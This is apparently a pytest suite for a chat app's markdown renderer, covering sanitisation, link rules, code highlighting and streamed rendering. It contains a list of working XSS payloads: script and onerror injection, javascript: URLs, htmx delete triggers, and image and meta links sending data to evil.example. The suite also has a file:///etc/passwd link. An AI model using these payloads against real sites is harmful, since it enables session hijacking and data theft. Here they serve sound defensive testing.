"""What the renderer lets through, judged on the parsed document and not on the string."""

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat import rendering
from chat.rendering import LiveRendering, render_markdown

ALLOWED_TAGS = set(
    "a blockquote br button code div em h1 h2 h3 h4 h5 h6 hr li ol p pre s span strong "  # noqa: SIM905
    "table tbody td th thead tr ul".split()
)
ALLOWED_ATTRIBUTES = {
    "a": {"href", "rel", "target"},
    "button": {"type", "class", "data-copy"},
    "div": {"class", "tabindex"},
    "ol": {"start"},
    "pre": {"tabindex"},
    "span": {"class"},
    "td": {"class"},
    "th": {"class"},
}
ALLOWED_HREF = re.compile(r"(https?://|mailto:|/chat/|/memory/)", re.IGNORECASE)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/p.png>",
    "![p](https://evil.example/p.png?q=secret)",
    '![p](https://evil.example/p.png "t" onerror=alert(1))',
    "![p][r]\n\n[r]: https://evil.example/p.png",
    "[j](javascript:alert(1))",
    "[j](JaVaScRiPt:alert(1))",
    "[j](java\nscript:alert(1))",
    "[j](&#106;avascript:alert(1))",
    "[j](\u202ejavascript:alert(1))",
    "<javascript:alert(1)>",
    "[v](vbscript:msgbox)",
    "[d](data:text/html;base64,PHNjcmlwdD4=)",
    "![d](data:image/png;base64,AAAA)",
    "[f](file:///etc/passwd)",
    "[p](//evil.example/)",
    "[p](/\\evil.example/)",
    "[p](/memory/../admin/)",
    "[p](/memory//evil.example)",
    "[r][x]\n\n[x]: javascript:alert(1)",
    '[t](/memory/a/ "<pre><code>" onmouseover=alert(1) ")',
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<form action=https://evil.example><input name=q></form>",
    "<a href=x hx-get=/memory/1/delete hx-trigger=load>x</a>",
    "<div data-hx-post=/api hx-on:load='alert(1)'>x</div>",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "    </code></pre><img src=x onerror=alert(1)>\n",
    "`</code><script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> | b |\n|:--|--:|\n| [j](javascript:alert(1)) | </td><script> |",
    "# <script>alert(1)</script>\n> <img src=x onerror=alert(1)>\n\n- <svg/onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    'https://evil.example/"onmouseover=alert(1)',
    "<https://evil.example/'><script>alert(1)</script>",
    "[![x](https://evil.example/i.png)](javascript:alert(1))",
]

REPLY = """\
## Plan

You asked for a *summary* of **invoice 1041**, see <https://example.com/invoices/1041>.

1. Read it
2. Compare it

   with the order

```python
def total(lines):
    return sum(line.amount for line in lines)
```

| item | amount |
|:-----|-------:|
| desk | 120    |

> Quoted, and
continued lazily.

    indented

    code

Last words
==========

- tight
- list
"""


@dataclass
class Document(HTMLParser):
    """The start tags with their attributes, and the text between them."""

    tags: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)
    pieces: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.pieces.append(data)

    def handle_comment(self, data: str) -> None:
        pytest.fail("a comment came through")

    handle_decl = handle_pi = unknown_decl = handle_comment

    @property
    def text(self) -> str:
        return "".join("".join(self.pieces).split())


def parsed(html: str) -> Document:
    document = Document()
    document.feed(html)
    document.close()
    return document


def assert_inert(html: str) -> None:
    for tag, attributes in parsed(html).tags:
        assert tag in ALLOWED_TAGS
        assert set(attributes) <= ALLOWED_ATTRIBUTES.get(tag, set())
        if "href" in attributes:
            assert ALLOWED_HREF.match(attributes["href"] or "")
            assert attributes["rel"] == "noopener noreferrer nofollow"


def streamed(text: str, *, cuts: list[int], highlight: bool = False) -> str:
    """The page's HTML after the text came in the given pieces, with a frame, checked, after each."""
    live = LiveRendering(highlight=highlight)
    committed = ""
    for begin, end in zip([0, *cuts], [*cuts, len(text)], strict=True):
        live.feed(text[begin:end])
        frame = live.take_frame()
        committed += "".join(frame.committed_html)
        assert_inert(committed + frame.tail_html)
    return committed + frame.tail_html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_inert_when_whole(payload: str) -> None:
    assert_inert(render_markdown(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_inert_in_every_frame_however_it_is_split(payload: str) -> None:
    for cut in range(len(payload) + 1):
        streamed(payload, cuts=[cut])
    streamed(payload, cuts=list(range(1, len(payload))))


def test_sanitiser_removes_active_content_even_if_the_parser_lets_it_through() -> None:
    hostile = (
        "<script>alert(1)</script><img src=x><a href='javascript:x' hx-get=/x onclick=x title='<pre>'>a</a>"
        "<button data-copy='x' hx-post=/x formaction=x class='evil copy'>b</button><p style=x data-x=y>c</p>"
        "<a href=//evil.example>d</a><a href='/admin/'>e</a><span class='k evil'>f</span>"
    )

    cleaned = rendering._CLEANER.clean(hostile)

    assert_inert(cleaned)
    assert parsed(cleaned).tags[1:] == [
        ("button", {"class": "copy"}),
        ("p", {}),
        ("a", {"rel": "noopener noreferrer nofollow"}),
        ("a", {"rel": "noopener noreferrer nofollow"}),
        ("span", {"class": "k"}),
    ]


def test_external_link_opens_apart_and_our_own_page_opens_in_place() -> None:
    external, own, mail = (
        attributes
        for tag, attributes in parsed(
            render_markdown("https://example.com/a [m](/memory/0190-ab/?q=x#top) <me@example.com>")
        ).tags
        if tag == "a"
    )

    assert external == {
        "href": "https://example.com/a",
        "target": "_blank",
        "rel": "noopener noreferrer nofollow",
    }
    assert own == {"href": "/memory/0190-ab/?q=x#top", "rel": "noopener noreferrer nofollow"}
    assert mail["href"] == "mailto:me@example.com"


@pytest.mark.parametrize(
    "text",
    [
        "[x](/admin/)",
        "[x](page.html)",
        "[x](//evil.example)",
        "[x](ftp://example.com/)",
        "README.md and main.py",
    ],
)
def test_address_that_is_not_allowed_stays_text(text: str) -> None:
    assert render_markdown(text) == f"<p>{text}</p>\n"


def test_image_is_shown_as_a_link() -> None:
    document = parsed(render_markdown("![chart](https://example.com/c.png)"))

    assert [tag for tag, _ in document.tags] == ["p", "a"]
    assert document.text.strip() == "chart"


@pytest.mark.parametrize(
    ("text", "tags", "words"),
    [
        ("![](https://example.com/c.png)", ["p", "a"], "https://example.com/c.png"),
        ("[![built](https://example.com/b.svg)](https://example.com/ci)", ["p", "a"], "built"),
        ("Look![chart](https://example.com/c.png)", ["p", "a"], "Lookchart"),
        (r"Look\![chart](https://example.com/c.png)", ["p", "a"], "Look!chart"),
        ("![nothing]", ["p"], "![nothing]"),
    ],
)
def test_image_without_words_in_a_link_or_escaped(text: str, tags: list[str], words: str) -> None:
    document = parsed(render_markdown(text))

    assert [tag for tag, _ in document.tags] == tags
    assert document.text.strip() == words


@pytest.mark.parametrize(
    ("text", "tag"), [("# a", "h3"), ("## a", "h4"), ("### a", "h5"), ("#### a", "h6"), ("###### a", "h6")]
)
def test_heading_goes_below_those_of_the_page(text: str, tag: str) -> None:
    assert render_markdown(text) == f"<{tag}>a</{tag}>\n"


def test_unseen_characters_are_removed_and_joiners_stay() -> None:
    unseen = "\u202e\u2066\u200f\u061c\u200b\u2060\ufeff\x00\x1b\x9b\u00ad\U000e0041\ufff9"

    assert render_markdown(f"a{unseen}b") == "<p>ab</p>\n"
    assert render_markdown("👩\u200d💻 می\u200cخواهم") == "<p>👩\u200d💻 می\u200cخواهم</p>\n"


def test_lone_surrogate_can_be_sent() -> None:
    assert render_markdown("a\ud83db").encode() == "<p>a\ufffdb</p>\n".encode()


def test_code_is_coloured_by_class_with_its_language_and_a_copy_button() -> None:
    html = render_markdown("```python\nreturn 1\n```")

    assert '<div class="code-block"><div class="code-header"><span class="language">python</span>' in html
    assert '<button type="button" class="copy" data-copy="">Copy</button>' in html
    assert '<span class="k">return</span>' in html
    assert "style" not in html


def test_code_of_an_unknown_language_is_plain() -> None:
    html = render_markdown("```no-such-language\na < b\n```")

    assert '<pre tabindex="0"><code>a &lt; b\n</code></pre>' in html


@pytest.mark.parametrize("language", ["python", "html", "bash", "console", "diff", "json", "sql", "perl"])
def test_colouring_changes_no_character(language: str) -> None:
    code = "\n\n  <a href='x'>&amp;</a>\t$ echo 'é' # \"x\"\n+++ \n"

    assert "".join(parsed(render_markdown(f"```{language}\n{code}```")).pieces) == f"{language}Copy{code}\n"


def test_colouring_stops_at_its_cap_across_blocks() -> None:
    block = "```python\n" + "x = 1\n" * 5_000 + "```\n\n"

    once, twice = render_markdown(block), render_markdown(block * 2)

    assert once.count('<span class="n">') == 5_000
    assert twice.count('<span class="n">') == 5_000
    live = LiveRendering()
    live.feed(block * 3 + "end\n")
    assert "".join(live.take_frame().committed_html).count('<span class="n">') == 5_000


def test_table_can_scroll_and_keeps_its_alignment_without_inline_style() -> None:
    html = render_markdown("| a | b |\n|---|--:|\n| 1 | 2 |")

    assert html.startswith('<div class="table-scroll" tabindex="0">\n<table>')
    assert '<th>a</th>\n<th class="align-right">b</th>' in html
    assert "style" not in html


def test_frames_build_the_same_page_as_the_whole_text_at_any_split() -> None:
    whole = render_markdown(REPLY, highlight=False)

    for size in (1, 2, 3, 7, 50):
        assert streamed(REPLY, cuts=list(range(size, len(REPLY), size))) == whole


# fmt: off
MARKDOWN_PIECES = st.sampled_from([
    "# ", "=", "---", "- a", "1. b", "2.", "   c", "    d", "\t", "> ", "```", "```py", "~~~", "`", "*", "**",
    "_", "~~", "\\", "<b>", "<script>", "&lt;", "http://e.example/x", "[x](", "[x](/memory/a)", ")", "word",
    "é", "🙂", "| a | b |\n", "|---|---|\n", "| 1 | 2 |\n", "\r", "\n", "\n", "\n\n", "\n\n", "\r\n", " \n",
])
# fmt: on


@given(data=st.data())
def test_frames_build_the_same_page_for_any_text_and_any_split(data: st.DataObject) -> None:
    pieces = data.draw(st.lists(MARKDOWN_PIECES | st.text(max_size=5), max_size=40))
    text = "".join(pieces).replace("]:", "]")  # a link's definition may come after its use
    cuts = sorted(data.draw(st.sets(st.integers(1, max(1, len(text) - 1)), max_size=12))) if text else []

    assert parsed(streamed(text, cuts=cuts)).text == parsed(render_markdown(text)).text
    assert streamed(text, cuts=cuts) == render_markdown(text, highlight=False)


def test_line_break_may_be_cut_in_two_and_a_lone_carriage_return_is_one() -> None:
    for text in ("a\r\n\r\nb", "```\na\n\r", "a\r\rb"):
        whole = render_markdown(text, highlight=False)

        assert streamed(text, cuts=list(range(1, len(text)))) == whole
        assert streamed(text, cuts=[]) == whole


def test_committed_block_is_never_sent_again_and_grows_no_more() -> None:
    live = LiveRendering()

    live.feed("one\n\ntwo\n")
    first = live.take_frame()
    live.feed("more\n\nthree\n")
    second = live.take_frame()

    assert first.committed_html == ("<p>one</p>\n",)
    assert first.tail_html == "<p>two</p>\n"
    assert second.committed_html == ("<p>two\nmore</p>\n",)
    assert second.tail_html == "<p>three</p>\n"


def test_list_is_not_committed_while_its_next_item_is_half_written() -> None:
    live = LiveRendering()

    live.feed("1. a\n\n2")
    assert live.take_frame().committed_html == ()
    live.feed(". b\n")

    assert live.take_frame().tail_html.count("<li>") == 2


def test_code_is_coloured_once_it_is_committed() -> None:
    live = LiveRendering()

    live.feed("```python\nreturn 1\n\n")
    assert '<span class="k">' not in live.take_frame().tail_html
    live.feed("```\n\nnext\n")

    assert '<span class="k">return</span>' in live.take_frame().committed_html[0]


def test_definition_serves_the_blocks_after_it() -> None:
    live = LiveRendering()

    live.feed("[x]: https://exam")
    live.take_frame()
    live.feed("ple.com/\n\nfirst\n\n[x]\n")
    live.take_frame()
    live.feed("\nlast [x]\n")

    assert 'href="https://example.com/"' in live.take_frame().tail_html


def test_frame_without_news_repeats_only_the_tail() -> None:
    live = LiveRendering()
    live.feed("one\n\ntwo\n")
    live.take_frame()
    cost = live.rendered_chars

    again = live.take_frame()

    assert (again.committed_html, again.tail_html) == ((), "<p>two</p>\n")
    assert live.rendered_chars == cost


def test_long_reply_costs_a_small_multiple_of_its_length() -> None:
    text = REPLY * 18  # about 6.6 kB
    live = LiveRendering()
    full_renders = 0

    for n, begin in enumerate(range(0, len(text), 4)):
        live.feed(text[begin : begin + 4])
        if n % 8 == 7:  # deltas are coalesced into frames
            live.take_frame()
            full_renders += begin + 4

    assert full_renders > 100 * len(text)
    assert live.rendered_chars < 6 * len(text)
